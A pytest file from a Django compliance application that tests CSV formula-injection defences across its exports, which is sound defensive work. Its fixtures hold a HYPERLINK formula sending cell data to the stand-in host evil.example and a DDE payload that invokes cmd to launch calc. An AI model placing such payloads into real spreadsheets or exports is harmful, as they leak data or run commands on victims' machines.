"""Every CSV the system writes neutralises spreadsheet formulas through one helper (callnex_compliance/csv_safe.py)."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from callnex_compliance.csv_safe import neutralise
from callnex_compliance.platform_data.models import OrganisationProfile
from rights_requests import services
from rights_requests.models import Instruction
from tests.factories.legal_basis import approved_activity
from tests.factories.platform_data import CallRecordFactory, ContactFactory
from tests.factories.rights_requests import instruct, request_via_intake

SKIPPED = {".venv", ".git", "tests", "var", "staticfiles", "node_modules"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_prefixes_an_apostrophe_when_text_starts_with_a_formula_character(prefix):
    assert neutralise(f"{prefix}1+1") == f"'{prefix}1+1"


def test_neutralise_leaves_plain_text_and_numbers_alone():
    assert neutralise("Sofie Peeters") == "Sofie Peeters"
    assert neutralise(-5) == -5
    assert neutralise("") == ""


def test_ropa_csv_neutralises_a_formula_in_an_activity_name(db):
    approved_activity(name=FORMULA)
    out = io.StringIO()
    call_command("export_ropa", "--record", "controller", "--format", "csv", stdout=out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert f"'{FORMULA}" in row.values()
    assert not any(value.startswith("=") for value in row.values())


def test_audit_csv_neutralises_a_formula_in_a_change_reason(dpc_user, auditor_client):
    profile = OrganisationProfile.get_solo()
    profile.legal_name = "CallNex BV"
    profile._history_user, profile._change_reason = dpc_user, "@SUM(1+1)*cmd|' /C calc'!A0"
    profile.save()
    response = auditor_client.get("/admin/audit/", {"model": "platform_data.OrganisationProfile", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_subject_export_csvs_neutralise_formulas_in_names(db, handler_user):
    contact = ContactFactory(name=FORMULA, email="sofie.peeters@example.be", phone="+32470000001")
    CallRecordFactory(campaign=contact.campaign, contact=contact)
    request = request_via_intake()
    services.rights_request_verify_identity(rights_request=request, actor=None)
    services.rights_request_link_matches(rights_request=request, actor=None)
    customer = contact.campaign.customer
    instruct(request, customer, Instruction.EXPORT)  # campaign data is exported on the customer's instruction
    export = services.rights_request_export(rights_request=request, actor=handler_user, customer=customer)
    with export.file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    [row] = list(csv.DictReader(io.StringIO(archive.read("contacts.csv").decode())))
    assert row["name"] == f"'{FORMULA}"
    assert row["phone"] == "'+32470000001"


def test_no_module_writes_csv_without_the_neutralising_helper():
    """A new CSV export must use callnex_compliance.csv_safe, or this test names the file."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    root = Path(settings.BASE_DIR)
    sources = [path for top in root.iterdir() if top.is_dir() and top.name not in SKIPPED for path in top.rglob("*.py")]
    offenders = [
        str(path.relative_to(root))
        for path in sources
        if path.name != "csv_safe.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
